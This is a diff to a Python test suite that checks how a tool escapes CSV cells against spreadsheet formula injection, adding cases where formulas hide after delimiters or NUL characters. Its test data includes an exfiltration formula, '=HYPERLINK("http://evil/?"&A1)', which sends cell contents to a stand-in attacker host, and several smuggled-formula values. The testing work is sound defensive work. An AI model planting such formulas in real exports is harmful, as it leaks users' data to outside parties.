@@ -23,6 +23,7 @@ __all__ = ["anglewise"]
 RUN = re.compile("[=+\\-@\t\r\n＝＋－＠]")  # noqa: RUF001 what spreadsheets begin a formula with
 NUMBER = re.compile(r"[+-]?[\d.]+(e[+-]?\d+)?", re.IGNORECASE)
 NAMES = ["=1+1", "+x", "-x", "@sum", "'=x", "''=x", "'tis", "-1", "+1.5", "a=b", "＝x", "'-1"]  # noqa: RUF001
+NAMES += ["a;=1", "a|+x"]
 ATTACK = '=HYPERLINK("http://evil/?"&A1)'
 
 
@@ -31,20 +32,35 @@ def cells(path):
         return [cell for row in csv.reader(file) for cell in row]
 
 
+def is_run(cell):
+    """Whether a spreadsheet takes it for a formula: it leaves out what it cannot show."""
+    return RUN.match(cell.replace("\0", "")) and not NUMBER.fullmatch(cell.split(",")[0])
+
+
 def formulas(path):
-    return [cell for cell in cells(path) if RUN.match(cell) and not NUMBER.fullmatch(cell)]
+    """What is run of a table, wherever a spreadsheet cuts its cells."""
+    text = path.read_text(encoding="utf-8")
+    cut = [cell for row in cells(path) for cell in [row, *re.split("[;|\t\r\n]", row)]]
+    lines = [cell for sign in ";|\t" for row in csv.reader(text.splitlines(), delimiter=sign)
+             for cell in row]  # fmt: skip
+    return [cell for cell in [*cut, *lines] if is_run(cell)]
 
 
 @settings(max_examples=300)
-@given(st.text("'=+-@\t\r\n＝1.e x", max_size=6))  # noqa: RUF001
+@given(st.text("'=+-@\t\r\n\0;|＝1.e x", max_size=6))  # noqa: RUF001
 @example("'")
+@example("film;=1+1")
+@example("film;'=1+1")
+@example("a;=1;'=2")
+@example("\0=1+1")
 @example("")
 def test_every_text_comes_back_and_none_begins_as_a_formula(text):
     kept = guarded(text)
     assert unguarded(kept) == text
-    assert not RUN.match(kept) or kept == text
-    if not RUN.match(text.lstrip("'")):
-        assert kept == text
+    if not NUMBER.fullmatch(text):
+        assert not any(map(is_run, [kept, *re.split("[;|\t\r\n]", kept)]))
+    if not any(RUN.match(part.lstrip("'\0")) for part in re.split("[;|\t\r\n]", text)):
+        assert kept == text or "\t" in text or "\r" in text or "\n" in text
     assert unguarded(text) == text or guarded(unguarded(text)) == text
 
 
@@ -123,7 +139,9 @@ def test_disputes_and_refused_rows_hold_no_formula(tmp_path):
 
 def test_what_a_judge_fills_in_is_recorded_under_the_ids_of_the_space(anglewise, tmp_path):
     rng = np.random.default_rng(0)
-    items = Embeddings(rng.normal(size=(12, 4)), ids=NAMES, metadata={"title": [ATTACK] * 12})
+    items = Embeddings(
+        rng.normal(size=(len(NAMES), 4)), ids=NAMES, metadata={"title": [ATTACK] * len(NAMES)}
+    )
     write_space(Space(items=items), tmp_path / "space")
     queue = tmp_path / "queue.csv"
     assert anglewise("judge", "sample", tmp_path / "space", "-o", queue, "--depth", 3).code == 0
